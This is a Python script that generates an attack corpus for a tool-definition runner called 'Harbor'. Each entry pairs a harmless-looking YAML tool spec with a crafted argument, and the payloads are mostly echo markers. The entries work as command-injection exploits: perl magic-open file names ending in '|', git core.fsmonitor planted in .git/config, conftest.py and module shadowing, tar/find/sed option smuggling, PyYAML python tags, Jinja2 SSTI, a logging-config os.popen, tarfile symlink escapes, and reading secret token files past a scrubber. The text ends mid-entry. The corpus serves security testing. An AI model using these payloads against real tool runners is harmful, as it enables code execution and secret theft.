#!/usr/bin/env python3
"""Writes attacks/NNN-name.yaml + .json of blind34r4 (exports written from docs/ only)."""

import json, os, sys, textwrap

sys.path.insert(0, os.path.dirname(__file__))
from payloads import *

OUT = os.path.join(os.path.dirname(__file__), "..", "attacks")
A = []


def add(num, slug, cls, y, args, why):
    A.append((num, slug, cls, textwrap.dedent(y).lstrip(), args, why))


PERL_CMD = "echo HARBOR-PWNED-$((6*7)) >&2|"
PERL_SUB = "x;echo HARBOR-PWNED-$((6*7)) >&2|"
# ---------------------------------------------------------------- class perl-argv-magic-open
add(
    1,
    "perl-crlf-normalize",
    "perl-argv-magic-open",
    r"""
name: normalize_line_endings
title: Show a file with Windows line endings removed
description: >
  Print a text file of the project with CR/LF line endings turned into LF, e.g. to
  look at a config file that was edited on Windows. Nothing is written.
args:
  file:
    type: string
    minLength: 1
    maxLength: 4096
    within: "."
    description: The file, relative to the project; it must stay inside the project.
required: [file]
timeout: 30
annotations: {readOnlyHint: true}
steps:
  - name: show
    # perl gets the path after "--", as an operand it opens; the program is literal.
    run: perl -pe 's/\r$//' -- "$ARG_file"
""",
    {"file": PERL_CMD},
    "perl -p wraps the literal program in while(<>): the ARGV operand is opened with 2-argument open, so a 'file name' ending in '|' is run as a shell command. within: '.' admits it (a relative path that does not exist).",
)

add(
    2,
    "perl-log-levels",
    "perl-argv-magic-open",
    r"""
name: log_error_lines
title: Numbered error lines of a log
description: Show the ERROR and FATAL lines of a log file under logs/, with their line numbers.
args:
  log:
    type: string
    default: logs/app.log
    within: logs
    description: The log file, inside logs/ (.. or a symlink leading out is refused).
timeout: 30
sandbox: {network: none}
annotations: {readOnlyHint: true}
steps:
  - name: grep
    run: |
      perl -lne 'print "$.: $_" if /\b(ERROR|FATAL)\b/' -- "$ARG_log"
""",
    {"log": "logs/" + PERL_SUB},
    "perl -n opens each operand with magic 2-arg open; 'logs/echo …|' resolves inside logs/ (the folder exists, the rest is taken as written).",
)

add(
    3,
    "perl-head-argv",
    "perl-argv-magic-open",
    r"""
name: file_head_perl
title: First lines of a file
description: The first N lines of a file of the project (argv step, no shell).
args:
  file: {type: string, within: ".", description: A file inside the project.}
  lines: {type: integer, minimum: 1, maximum: 500, default: 20}
required: [file]
timeout: 20
annotations: {readOnlyHint: true}
steps:
  - name: head
    argv: [perl, -ne, "print if $. <= {{ args.lines }}", "--", "{{ args.file }}"]
""",
    {"file": PERL_CMD},
    "argv step: one element, after --, but perl's -n loop opens it with 2-arg open: a trailing | runs it through /bin/sh.",
)

add(
    4,
    "perl-csv-column-sum",
    "perl-argv-magic-open",
    r"""
name: csv_column_total
title: Sum a CSV column
description: Add up one numeric column (1-based) of a CSV file under data/ and print the total.
args:
  file: {type: string, default: data/report.csv, within: data, description: The CSV file, inside data/.}
  column: {type: integer, minimum: 1, maximum: 100, default: 3}
timeout: 30
sandbox: {network: none}
annotations: {readOnlyHint: true}
steps:
  - name: sum
    run: |
      perl -F, -lane 'next if $. == 1; $s += $F[{{ args.column }} - 1]; END { printf "total=%s\n", $s // 0 }' -- "$ARG_file"
""",
    {"file": "data/" + PERL_SUB},
    "-a/-n: the operand goes through perl's magic open; the column is a number (inert in code), the file name is the payload.",
)

add(
    5,
    "perl-multi-file-count",
    "perl-argv-magic-open",
    r"""
name: count_todo_markers
title: Count TODO/FIXME markers
description: Count TODO and FIXME comments in the given source files and print one total.
args:
  files:
    type: array
    minItems: 1
    maxItems: 50
    items: {type: string, minLength: 1}
    within: "."
    description: Files inside the project.
required: [files]
timeout: 60
annotations: {readOnlyHint: true}
steps:
  - name: count
    run: |
      mapfile -t files < <(jq -r '.[]' <<<"$ARG_files")
      perl -ne '$n++ while /\b(TODO|FIXME)\b/g; END { print $n // 0, "\n" }' -- "${files[@]}"
""",
    {"files": ["src/app.py", PERL_CMD]},
    "each item is validated (within, no leading dash) and passed after --, but perl -n opens operands with 2-arg open.",
)

# ---------------------------------------------------------------- class argv-step-in-caller-written-folder
add(
    10,
    "save-file-git-status",
    "argv-step-in-written-workdir",
    r"""
name: save_file
title: Write a file and show the repository status
description: >
  Write text to a file of the project (creating or replacing it), then show
  `git status --short` so the caller sees what changed. For editing assistants.
args:
  path: {type: string, minLength: 1, within: ".", description: The file to write, inside the project.}
  content: {type: string, multiline: true, maxLength: 100000, description: The new content of the file.}
required: [path, content]
timeout: 60
annotations: {readOnlyHint: false, destructiveHint: true}
steps:
  - name: write
    run: printf '%s\n' "$ARG_content" > "$ARG_path"
  - name: status
    argv: [git, status, --short]
""",
    {"path": ".git/config", "content": GITCONFIG_FSMON.rstrip("\n")},
    "the path .git/config is inside the working directory; the run: step writes it, and the later argv: git status reads core.fsmonitor from it and runs it. Docs: argv: steps are not yet judged as working in a caller-written folder.",
)

add(
    11,
    "write-fixture-pytest",
    "argv-step-in-written-workdir",
    r"""
name: add_test_and_run
title: Add a test file and run the suite
description: Save a test module under tests/ and run the project's test suite (pytest, quiet).
args:
  name:
    type: string
    pattern: "^[a-z][a-z0-9_]{0,60}\\.py$"
    description: File name of the test module, e.g. test_parser.py.
  source: {type: string, multiline: true, maxLength: 200000, description: The Python source of the tests.}
required: [name, source]
timeout: 600
sandbox: {network: none, writable: [tests]}
annotations: {readOnlyHint: false}
steps:
  - name: save
    run: printf '%s\n' "$ARG_source" > "tests/$ARG_name"
  - name: pytest
    argv: [python3, -m, pytest, -q, -p, no:cacheprovider, tests]
""",
    {"name": "conftest.py", "source": PY_MARK_FILE.rstrip("\n")},
    "a test module is code by design, but even with the file name restricted the caller picks conftest.py (or any test_*.py), which pytest imports; argv steps are not judged as running in the written folder.",
)

add(
    12,
    "save-data-validate-json",
    "argv-step-in-written-workdir",
    r"""
name: save_data_file
title: Save a data file and validate all JSON
description: >
  Save a file under the project's data/ folder, then check that every JSON file
  under data/ still parses (python's json module), listing the bad ones.
args:
  name: {type: string, pattern: "^[A-Za-z0-9_][A-Za-z0-9_.-]{0,80}$", description: File name inside data/.}
  content: {type: string, multiline: true, maxLength: 500000}
required: [name, content]
timeout: 60
sandbox: {network: none, writable: [data]}
annotations: {readOnlyHint: false}
steps:
  - name: save
    run: printf '%s\n' "$ARG_content" > "data/$ARG_name"
  - name: validate
    cwd: ../data
    argv: [python3, -c, "import json, pathlib\nbad = []\nfor p in sorted(pathlib.Path('.').glob('*.json')):\n    try:\n        json.loads(p.read_text())\n    except ValueError as e:\n        bad.append(f'{p}: {e}')\nprint('\\n'.join(bad) or 'all JSON files parse')"]
""",
    {"name": "json.py", "content": PY_MARK.rstrip("\n")},
    "the validate step runs python3 -c in data/ (cwd:), where sys.path[0] is the folder: the caller's data/json.py shadows the json module and runs. The name pattern admits json.py.",
)

add(
    13,
    "edit-then-git-add",
    "argv-step-in-written-workdir",
    r"""
name: stage_file
title: Write and stage a file
description: Write a file of the project and stage it (git add), then print the staged diff summary.
args:
  path: {type: string, within: ".", minLength: 1}
  content: {type: string, multiline: true, maxLength: 100000}
required: [path, content]
timeout: 60
annotations: {readOnlyHint: false}
steps:
  - name: write
    run: |
      mkdir -p -- "$(dirname -- "$ARG_path")"
      printf '%s\n' "$ARG_content" > "$ARG_path"
  - name: add
    argv: [git, add, --all]
  - name: summary
    argv: [git, diff, --cached, --stat]
""",
    {"path": ".git/config", "content": GITCONFIG_FSMON.rstrip("\n")},
    "git add refreshes the index and runs the core.fsmonitor command of the .git/config the caller just wrote.",
)

add(
    14,
    "notes-finally-status",
    "argv-step-in-written-workdir",
    r"""
name: append_changelog
title: Add a line to a changelog-like file
description: Append a line of text to a Markdown file of the project; always report git status at the end.
args:
  file: {type: string, within: ".", pattern: "^[A-Za-z0-9_./-]+$", default: CHANGELOG.md}
  line: {type: string, maxLength: 2000, multiline: true}
required: [line]
timeout: 60
annotations: {readOnlyHint: false}
steps:
  - name: append
    run: printf '%s\n' "$ARG_line" >> "$ARG_file"
finally:
  - name: status
    argv: [git, status, --short, --branch]
""",
    {
        "file": ".git/config",
        "line": '[core]\n\tfsmonitor = "echo HARBOR-PWNED-$((6*7)) >&2; false"',
    },
    "appending a later [core] section to .git/config overrides fsmonitor; the finally: hook's argv git status runs it.",
)

add(
    15,
    "python-module-check",
    "argv-step-in-written-workdir",
    r"""
name: write_settings_check
title: Save settings.yaml and check it
description: Save the project's settings file (YAML text) in config/ and check it parses, with PyYAML's safe loader.
args:
  filename: {type: string, pattern: "^[a-z0-9_-]+\\.(yaml|yml|py)$", default: settings.yaml, description: "File name in config/ (yaml; py for settings modules)."}
  text: {type: string, multiline: true, maxLength: 100000}
required: [text]
timeout: 60
sandbox: {network: none, writable: [config]}
steps:
  - name: save
    run: printf '%s\n' "$ARG_text" > "config/$ARG_filename"
  - name: parse
    cwd: ../config
    argv: [python3, -c, "import yaml, pathlib\nfor p in sorted(pathlib.Path('.').glob('*.y*ml')):\n    yaml.safe_load(p.read_text())\n    print('ok', p)"]
""",
    {"filename": "yaml.py", "text": PY_MARK.rstrip("\n")},
    "config/yaml.py shadows PyYAML for python3 -c run in config/ (sys.path[0] is the working folder of -c).",
)

add(
    16,
    "apply-snippet-diff-external",
    "argv-step-in-written-workdir",
    r"""
name: replace_file_show_diff
title: Replace a file and show the diff
description: Replace a file of the project with new content and show `git diff` of it.
args:
  path: {type: string, within: ".", minLength: 1}
  content: {type: string, multiline: true, maxLength: 100000}
required: [path, content]
timeout: 60
steps:
  - name: write
    run: printf '%s\n' "$ARG_content" > "$ARG_path"
  - name: diff
    argv: [git, --no-pager, diff, --stat]
""",
    {
        "path": ".git/config",
        "content": '[core]\n\tbare = false\n\tfsmonitor = "echo HARBOR-PWNED-$((6*7)) >&2; false"',
    },
    "git diff refreshes the index through core.fsmonitor, read from the .git/config the first step wrote.",
)

# ---------------------------------------------------------------- class argv-step-writes-workdir
TAR_GITCFG = b64(tar_bytes([(".git/config", GITCONFIG_FSMON, None)]))
add(
    20,
    "unpack-bundle-status",
    "argv-write-then-run",
    r"""
name: unpack_bundle
title: Unpack a bundle into the project
description: >
  Unpack an uploaded .tar.gz (e.g. generated fixtures or docs) into the project
  folder, then list what changed with git status.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 10000000}
required: [bundle]
timeout: 120
annotations: {readOnlyHint: false}
steps:
  - name: unpack
    argv: [tar, --no-same-owner, -xzf, "{{ args.bundle }}"]
  - name: changes
    run: git status --short
""",
    {"bundle": TAR_GITCFG},
    "the argv: tar step writes the archive's .git/config into the working folder (docs: argv steps are not judged as writing it); the run: step's git status then runs core.fsmonitor.",
)

ZIP_JSON = b64(zip_bytes([("json.py", PY_MARK)]))
add(
    21,
    "unzip-then-python",
    "argv-write-then-run",
    r"""
name: restore_snapshot
title: Restore an uploaded snapshot and validate config
description: Unpack an uploaded zip of project files over the project, then check config/app.json parses.
args:
  snapshot: {type: string, contentEncoding: base64, contentMediaType: application/zip, max_bytes: 20000000}
required: [snapshot]
timeout: 120
steps:
  - name: unzip
    argv: [unzip, -o, -q, "{{ args.snapshot }}"]
  - name: check
    run: python3 -c 'import json, sys; json.load(open(sys.argv[1])); print("config ok")' config/app.json
""",
    {"snapshot": ZIP_JSON},
    "unzip (argv) drops json.py in the working folder; python3 -c in that folder imports it instead of the json module.",
)

add(
    22,
    "copy-upload-pytest",
    "argv-write-then-run",
    r"""
name: add_fixture_run_tests
title: Add an uploaded fixture file and run the tests
description: Copy an uploaded file into tests/ under the given name and run the test suite.
args:
  upload: {type: string, contentEncoding: base64, contentMediaType: text/plain, max_bytes: 1000000}
  dest: {type: string, within: tests, description: "Destination inside tests/, e.g. tests/fixtures/sample.txt"}
required: [upload, dest]
timeout: 600
sandbox: {network: none, writable: [tests]}
steps:
  - name: copy
    argv: [cp, --, "{{ args.upload }}", "{{ args.dest }}"]
  - name: pytest
    run: python3 -m pytest -q -p no:cacheprovider tests
""",
    {"upload": b64(PY_MARK_FILE), "dest": "tests/conftest.py"},
    "cp is an argv step (its write is not counted); the destination tests/conftest.py is within tests/; pytest imports it.",
)

PATCH = new_file_patch("tests/conftest.py", PY_MARK_FILE)
add(
    23,
    "apply-patch-run-tests",
    "argv-write-then-run",
    r"""
name: try_patch
title: Apply a patch and run the tests
description: Apply a unified diff to the project (git apply) and run the test suite on the result.
args:
  patch: {type: string, contentEncoding: base64, contentMediaType: text/x-diff, max_bytes: 2000000}
required: [patch]
timeout: 900
sandbox: {network: none, writable: [.]}
steps:
  - name: apply
    argv: [git, apply, --whitespace=nowarn, "{{ args.patch }}"]
  - name: test
    run: python3 -m pytest -q -p no:cacheprovider tests
""",
    {"patch": b64(PATCH)},
    "the patch creates tests/conftest.py (git apply is an argv step); the test step imports it. A reviewer expects tests from a patch to run, but not a conftest hook before collection.",
)

PATCH2 = new_file_patch("json.py", PY_MARK)
add(
    24,
    "apply-patch-json-check",
    "argv-write-then-run",
    r"""
name: patch_config_check
title: Apply a config patch and validate the JSON configs
description: Apply a patch touching config files, then validate config/*.json with python.
args:
  patch: {type: string, contentEncoding: base64, contentMediaType: text/x-diff, max_bytes: 1000000}
required: [patch]
timeout: 120
steps:
  - name: apply
    argv: [git, apply, "{{ args.patch }}"]
  - name: validate
    run: |
      for f in config/*.json; do
        python3 -c 'import json, sys; json.load(open(sys.argv[1]))' "$f"
        printf 'ok %s\n' "$f"
      done
""",
    {"patch": b64(PATCH2)},
    "git apply (argv) creates json.py at the top of the working folder; python3 -c imports it.",
)

# ---------------------------------------------------------------- class unquoted-split-option
TARPAY = "logs/app.log --checkpoint=1 --checkpoint-action=exec=echo${IFS}HARBOR-PWNED-$((6*7))"
add(
    30,
    "bundle-files-tar",
    "unquoted-split-option",
    r"""
name: bundle_files
title: Bundle files into a tarball
description: Pack the given files (space-separated paths) into a .tar.gz in the run directory and list it.
args:
  files:
    type: string
    minLength: 1
    maxLength: 2000
    description: Space-separated paths of the project, e.g. "README.md logs/app.log".
required: [files]
timeout: 120
annotations: {readOnlyHint: true}
steps:
  - name: pack
    run: |
      # one word per path: the list is split on blanks on purpose
      tar -czf "$HARBOR_RUN_DIR/bundle.tar.gz" $ARG_files
      tar -tzf "$HARBOR_RUN_DIR/bundle.tar.gz"
""",
    {"files": TARPAY},
    "W102 (a warning) only: splitting gives tar the field --checkpoint-action=exec=…, an option though the value as a whole does not start with -.",
)

add(
    31,
    "find-in-dirs",
    "unquoted-split-option",
    r"""
name: recent_logs
title: Recently changed logs
description: List .log files changed in the last N days in the given folders (space-separated).
args:
  dirs: {type: string, default: logs, maxLength: 500, description: Space-separated folders.}
  days: {type: integer, minimum: 0, maximum: 365, default: 7}
timeout: 60
annotations: {readOnlyHint: true}
steps:
  - name: find
    run: find $ARG_dirs -name '*.log' -mtime -{{ args.days }} -print
""",
    {"dirs": "logs -exec bash -c echo${IFS}HARBOR-PWNED-$((6*7)) ; -quit"},
    "the fields after the first become find's expression: -exec bash -c … ;",
)

add(
    32,
    "sed-strip-comments",
    "unquoted-split-option",
    r"""
name: strip_comments
title: Config files without comments
description: Print config files (space-separated paths) without comment and blank lines.
args:
  files: {type: string, default: config/app.ini, maxLength: 1000}
timeout: 30
annotations: {readOnlyHint: true}
steps:
  - name: strip
    run: sed -e '/^[[:space:]]*[#;]/d' -e '/^[[:space:]]*$/d' $ARG_files
""",
    {"files": "config/app.ini --expression=1eecho${IFS}HARBOR-PWNED-$((6*7))"},
    "a field --expression=1e… adds a sed script whose e command runs a shell command.",
)

add(
    33,
    "zip-files",
    "unquoted-split-option",
    r"""
name: zip_files
title: Zip files
description: Zip the given project files (space-separated) into the run directory and print the archive's size.
args:
  files: {type: string, minLength: 1, maxLength: 2000}
required: [files]
timeout: 120
steps:
  - name: zip
    run: |
      zip -q "$HARBOR_RUN_DIR/files.zip" $ARG_files
      stat --format='%s bytes' -- "$HARBOR_RUN_DIR/files.zip"
""",
    {"files": "README.md -T --unzip-command=echo${IFS}HARBOR-PWNED-$((6*7))"},
    "-T with --unzip-command runs the test command through the shell.",
)

add(
    34,
    "read-array-tar",
    "unquoted-split-option",
    r"""
name: archive_paths
title: Archive comma-separated paths
description: Create a tar archive of comma-separated project paths in the run directory and list it.
args:
  paths:
    type: string
    pattern: "^[^-].*$"
    maxLength: 2000
    description: Comma-separated paths, e.g. "src,README.md".
required: [paths]
timeout: 120
steps:
  - name: tar
    run: |
      IFS=, read -ra items <<<"$ARG_paths"
      tar -cf "$HARBOR_RUN_DIR/paths.tar" "${items[@]}"
      tar -tf "$HARBOR_RUN_DIR/paths.tar"
""",
    {"paths": "README.md,--checkpoint=1,--checkpoint-action=exec=echo HARBOR-PWNED-$((6*7))"},
    "read -a splits on commas: items 2 and 3 start with - (the pattern only looks at the first character of the whole value).",
)

add(
    35,
    "set-positional-sed",
    "unquoted-split-option",
    r"""
name: head_of_files
title: First lines of several files
description: The first 5 lines of each of the given files (space-separated).
args:
  files: {type: string, maxLength: 1000, default: README.md}
timeout: 30
steps:
  - name: head
    run: |
      set -- $ARG_files
      for f in "$@"; do printf '==> %s <==\n' "$f"; done
      sed -s -n '1,5p' "$@"
""",
    {"files": "README.md --expression=1eecho${IFS}HARBOR-PWNED-$((6*7))"},
    'set -- $ARG_files splits; "$@" keeps a field that starts with --expression=, which sed takes as a script.',
)

add(
    36,
    "comma-list-find",
    "unquoted-split-option",
    r"""
name: find_by_folders
title: Files in folders
description: List regular files (not recursive) of the folders given as a comma-separated list.
args:
  folders: {type: string, default: "logs,config", maxLength: 1000, description: "Comma-separated folders, e.g. logs,config"}
timeout: 30
steps:
  - name: ls
    run: |
      find ${ARG_folders//,/ } -maxdepth 1 -type f
""",
    {"folders": "logs,-exec,bash,-c,echo${IFS}HARBOR-PWNED-$((6*7)),;,-quit"},
    "${x//,/ } unquoted: the fields after the first start with -; find takes -exec bash -c … ; as its expression.",
)

add(
    37,
    "mapfile-multiline-tar",
    "unquoted-split-option",
    r"""
name: pack_list
title: Pack a list of files
description: Pack the files named one per line into a tar in the run directory.
args:
  list: {type: string, multiline: true, maxLength: 20000, description: "One path per line."}
required: [list]
timeout: 120
steps:
  - name: pack
    run: |
      mapfile -t paths <<<"$ARG_list"
      tar -cf "$HARBOR_RUN_DIR/list.tar" "${paths[@]}"
      tar -tf "$HARBOR_RUN_DIR/list.tar" | wc -l
""",
    {"list": "README.md\n--checkpoint=1\n--checkpoint-action=exec=echo HARBOR-PWNED-$((6*7))"},
    "only the first character of a multiline value is held to no-leading-dash; the lines after it reach tar as options.",
)

add(
    38,
    "while-read-sed",
    "unquoted-split-option",
    r"""
name: line_counts
title: Line counts of listed files
description: For each file named on its own line, print its name and the number of non-comment lines.
args:
  files: {type: string, multiline: true, maxLength: 20000}
required: [files]
timeout: 60
steps:
  - name: count
    run: |
      while IFS= read -r f; do
        [ -n "$f" ] || continue
        n=$(sed -e '/^#/d' "$f" config/app.ini | wc -l)
        printf '%s %s\n' "$n" "$f"
      done <<<"$ARG_files"
""",
    {"files": "README.md\n--expression=1eecho${IFS}HARBOR-PWNED-$((6*7))>&2"},
    "a line of a multiline value read into $f starts with --expression=: sed runs its e command.",
)

# ---------------------------------------------------------------- class object-arg-unchecked
add(
    40,
    "manifest-object-find",
    "object-arg-contents",
    r"""
name: manifest_files
title: Files named by a manifest
description: "List the .yaml files under the folders of a manifest object {dirs: [...]}."
args:
  manifest:
    type: object
    properties:
      dirs: {type: array, items: {type: string, minLength: 1}, maxItems: 20}
    required: [dirs]
    additionalProperties: false
required: [manifest]
timeout: 30
steps:
  - name: list
    run: |
      mapfile -t dirs < <(jq -r '.dirs[]' <<<"$ARG_manifest")
      find "${dirs[@]}" -name '*.yaml' -print
""",
    {
        "manifest": {
            "dirs": ["deploy", "-exec", "bash", "-c", "echo HARBOR-PWNED-$((6*7))", ";", "-quit"]
        }
    },
    "leading-dash is not checked inside objects; nested items reach find's expression. (Nested pattern would refuse the payload only if it were full-matched AND had no spaces; here it is re.search'd: '-exec' matches [A-Za-z0-9_./-]+.)",
)

add(
    41,
    "object-files-sed",
    "object-arg-contents",
    r"""
name: show_config_set
title: Show a set of config files
description: "Print the given config files, comments removed. Argument {files: [config/app.ini, ...]}."
args:
  request:
    type: object
    properties:
      files: {type: array, items: {type: string}, minItems: 1, maxItems: 20}
    required: [files]
required: [request]
timeout: 30
steps:
  - name: show
    run: |
      mapfile -t files < <(jq -r '.files[]' <<<"$ARG_request")
      sed -e '/^#/d' "${files[@]}"
""",
    {"request": {"files": ["config/app.ini", "--expression=1eecho HARBOR-PWNED-$((6*7))"]}},
    "an object's strings are not looked into for a leading dash; the item reaches sed as a script.",
)

add(
    42,
    "object-tar-list",
    "object-arg-contents",
    r"""
name: release_bundle
title: Bundle release files
description: "Create a tar of the release files named in {files: [...], name: ...}; return it base64-encoded."
args:
  spec:
    type: object
    properties:
      name: {type: string, pattern: "^[a-z0-9.-]+$"}
      files: {type: array, items: {type: string}}
    required: [name, files]
required: [spec]
timeout: 60
steps:
  - name: pack
    run: |
      name=$(jq -r '.name' <<<"$ARG_spec")
      jq -r '.files[]' <<<"$ARG_spec" > "$HARBOR_RUN_DIR/files.txt"
      tar -cf "$HARBOR_RUN_DIR/$name.tar" --files-from="$HARBOR_RUN_DIR/files.txt"
      tar -tf "$HARBOR_RUN_DIR/$name.tar" >&2
      base64 -w 0 -- "$HARBOR_RUN_DIR/$name.tar"
""",
    {"spec": {"name": "rel", "files": ["README.md", "-C exports", ".secrets/api_token"]}},
    "tar's --files-from list admits -C DIR lines; object items are not dash-checked: the archive takes exports/.secrets (the secret file) into the listed/returned bundle (and the tar list prints it). Marker variant impossible: verified as a read outside the list only.",
)

# ---------------------------------------------------------------- class python-data-loader-runs-code
add(
    50,
    "yaml-config-validate",
    "python-loader-runs-code",
    r"""
name: validate_yaml_upload
title: Validate an uploaded YAML file
description: Parse an uploaded YAML document and print its top-level keys (PyYAML, keeping custom tags).
args:
  doc: {type: string, contentEncoding: base64, contentMediaType: application/x-yaml, max_bytes: 1000000}
required: [doc]
timeout: 30
sandbox: {network: none}
steps:
  - name: parse
    run: |
      python3 -c '
      import sys, yaml
      data = yaml.load(open(sys.argv[1]), Loader=yaml.Loader)
      print(sorted(data) if isinstance(data, dict) else type(data).__name__)
      ' "$ARG_doc"
""",
    {"doc": b64('a: !!python/object/apply:os.system ["echo HARBOR-PWNED-$((6*7))"]\n')},
    "the program is literal and gets the path as sys.argv[1], but yaml.Loader constructs python objects: !!python/object/apply runs os.system.",
)

add(
    51,
    "yaml-stdin-multidoc",
    "python-loader-runs-code",
    r"""
name: yaml_to_json
title: Convert YAML to JSON
description: Convert YAML text (all documents) to JSON lines.
args:
  yaml_text: {type: string, multiline: true, maxLength: 200000}
required: [yaml_text]
timeout: 30
sandbox: {network: none}
steps:
  - name: convert
    run: |
      printf '%s\n' "$ARG_yaml_text" | python3 -c 'import sys, json, yaml
      for d in yaml.load_all(sys.stdin, Loader=yaml.Loader):
          print(json.dumps(d, default=str))'
""",
    {"yaml_text": 'k: !!python/object/apply:os.system ["echo HARBOR-PWNED-$((6*7))"]'},
    "caller data on python's stdin read as data by a literal program, but the YAML loader applies python tags.",
)

add(
    52,
    "jinja-release-notes",
    "python-loader-runs-code",
    r"""
name: render_release_notes
title: Render release notes
description: Render a release-notes template (Jinja2) with the version and today's date.
args:
  template: {type: string, multiline: true, maxLength: 20000, description: "Jinja2 text, e.g. 'Release {{ version }} ({{ date }})'."}
  version: {type: string, pattern: "^[0-9]+\\.[0-9]+\\.[0-9]+$"}
required: [template, version]
timeout: 30
sandbox: {network: none}
steps:
  - name: render
    run: |
      python3 -c 'import sys, datetime, jinja2
      print(jinja2.Template(sys.argv[1]).render(version=sys.argv[2], date=datetime.date.today()))' "$ARG_template" "$ARG_version"
""",
    {
        "template": "Release {{ version }} {{ cycler.__init__.__globals__.os.popen('echo HARBOR-PWNED-$((6*7))').read() }}",
        "version": "1.4.2",
    },
    "the template is an argument of a literal program, but Jinja2 templates are code (SSTI through cycler.__init__.__globals__.os).",
)

add(
    53,
    "logging-dictconfig",
    "python-loader-runs-code",
    r"""
name: check_logging_config
title: Check a logging configuration
description: Load a logging dictConfig (JSON) the way the service does and log one line with it.
args:
  config: {type: object, description: A logging.config.dictConfig dictionary.}
required: [config]
timeout: 30
sandbox: {network: none}
steps:
  - name: load
    run: |
      python3 -c 'import json, sys, logging, logging.config
      logging.config.dictConfig(json.loads(sys.argv[1]))
      logging.getLogger("check").warning("logging config loaded")' "$ARG_config"
""",
    {
        "config": {
            "version": 1,
            "handlers": {"h": {"()": "os.popen", "cmd": "echo HARBOR-PWNED-$((6*7)) >&2"}},
        }
    },
    "dictConfig's '()' key names any callable and calls it with the other keys: os.popen(cmd=…).",
)

add(
    54,
    "logging-fileconfig",
    "python-loader-runs-code",
    r"""
name: check_logging_ini
title: Check a logging.ini
description: Load an uploaded logging.ini with logging.config.fileConfig and emit a test record.
args:
  ini: {type: string, contentEncoding: base64, contentMediaType: text/plain, max_bytes: 100000}
required: [ini]
timeout: 30
sandbox: {network: none}
steps:
  - name: load
    run: python3 -c 'import sys, logging, logging.config; logging.config.fileConfig(sys.argv[1]); logging.getLogger().warning("ok")' "$ARG_ini"
""",
    {
        "ini": b64(
            '[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=(__import__("os").system("echo HARBOR-PWNED-$((6*7))"),)\n'
        )
    },
    "fileConfig evaluates handler args with eval().",
)

TAR_SYM = b64(tar_bytes([("w", None, "/proc/self/cwd"), ("w/.git/config", GITCONFIG_FSMON, None)]))
add(
    55,
    "tarfile-extract-then-git",
    "python-loader-runs-code",
    r"""
name: artifact_summary
title: Summarize a build artifact
description: >
  Unpack an uploaded build artifact (.tar.gz) in the run directory with Python,
  print its file list and sizes, then show the repository's status for context.
args:
  artifact: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 50000000}
required: [artifact]
timeout: 120
steps:
  - name: unpack
    run: |
      dest="$HARBOR_RUN_DIR/artifact"
      mkdir -p -- "$dest"
      python3 -c 'import sys, tarfile
      with tarfile.open(sys.argv[1]) as t:
          t.extractall(sys.argv[2])
          for m in t.getmembers():
              print(m.size, m.name)' "$ARG_artifact" "$dest"
  - name: status
    run: git status --short --branch
""",
    {"artifact": TAR_SYM},
    "writes only under $HARBOR_RUN_DIR as written, but tarfile (no filter, Python < 3.14) follows the member symlink w -> /proc/self/cwd: .git/config of the working folder is replaced, and git status runs core.fsmonitor.",
)

add(
    56,
    "getattr-path-inspect",
    "python-loader-runs-code",
    r"""
name: path_info
title: Inspect a path
description: Run one os inspection function (stat, lstat, listdir, readlink, access) on a path of the project and print the result.
args:
  op: {type: string, pattern: "^[a-z_]+$", default: stat, description: "stat, lstat, listdir, readlink"}
  path: {type: string, within: ".", default: "."}
timeout: 20
steps:
  - name: inspect
    run: |
      python3 -c 'import os, sys
      print(getattr(os, sys.argv[1])(sys.argv[2]))' "$ARG_op" "$ARG_path"
""",
    {"op": "system", "path": "echo HARBOR-PWNED-$((6*7))"},
    "no eval/exec/subprocess in the literal program, but getattr(os, name) lets the caller pick os.system.",
)

add(
    57,
    "shutil-unpack-then-git",
    "python-loader-runs-code",
    r"""
name: unpack_docs
title: Unpack a docs archive
description: Unpack an uploaded docs archive (tar.gz) into the run directory with shutil and count pages; then git log of docs/.
args:
  archive: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 20000000}
required: [archive]
timeout: 60
steps:
  - name: unpack
    run: |
      python3 -c 'import shutil, sys, pathlib
      shutil.unpack_archive(sys.argv[1], sys.argv[2], "gztar")
      print(sum(1 for _ in pathlib.Path(sys.argv[2]).rglob("*.md")), "pages")' "$ARG_archive" "$HARBOR_RUN_DIR/docs"
  - name: history
    run: git diff --stat HEAD -- docs/
""",
    {"archive": TAR_SYM},
    "shutil.unpack_archive uses tarfile without a filter: through the member symlink to /proc/self/cwd it rewrites .git/config; the next git diff runs core.fsmonitor.",
)

# ---------------------------------------------------------------- class secret-file-inside-tree
SECRET_HDR = """secrets:
  API_TOKEN: {file: .secrets/api_token}
"""
add(
    60,
    "hexdump-with-upload-token",
    "secret-source-file-in-tree",
    r"""
name: file_bytes
title: Show the first bytes of a file
description: >
  Show the first bytes of a project file as a hex dump (to debug encodings and
  BOMs), and report whether the artifact store already has a file of that name.
args:
  path: {type: string, within: ".", description: A file inside the project.}
  bytes: {type: integer, minimum: 16, maximum: 4096, default: 256}
required: [path]
timeout: 30
secrets:
  API_TOKEN: {file: .secrets/api_token}
steps:
  - name: dump
    run: od -A x -t x1z -N {{ args.bytes }} -- "$ARG_path"
  - name: exists
    continue_on_error: true
    run: |
      curl -sS -o /dev/null -w '%{http_code}\n' --max-time 5 \
        -H "Authorization: Bearer $API_TOKEN" \
        --get --data-urlencode "name=$ARG_path" https://artifacts.invalid/api/exists
""",
    {"path": "exports/.secrets/api_token", "bytes": 64},
    "the secret's own source file (relative to the export's folder, inside the working directory) is a path within '.'; od prints it as hex pairs, which the verbatim scrubber does not match.",
)

add(
    61,
    "base64-download",
    "secret-source-file-in-tree",
    r"""
name: download_file
title: Download a project file
description: Return a project file base64-encoded (for binary files), after checking its signature with the signing service.
args:
  path: {type: string, within: "."}
required: [path]
timeout: 30
secrets:
  API_TOKEN: {file: .secrets/api_token}
steps:
  - name: encode
    run: base64 -w 0 -- "$ARG_path"
  - name: verify
    continue_on_error: true
    run: |
      sha256sum -- "$ARG_path" | cut -d' ' -f1 |
        API_TOKEN="$API_TOKEN" curl -sS --max-time 5 -H @- https://sign.invalid/verify || true
""",
    {"path": "exports/.secrets/api_token"},
    "the caller names the secret's source file; base64 output escapes the scrubber.",
)

add(
    62,
    "od-chars-debug",
    "secret-source-file-in-tree",
    r"""
name: show_invisible_chars
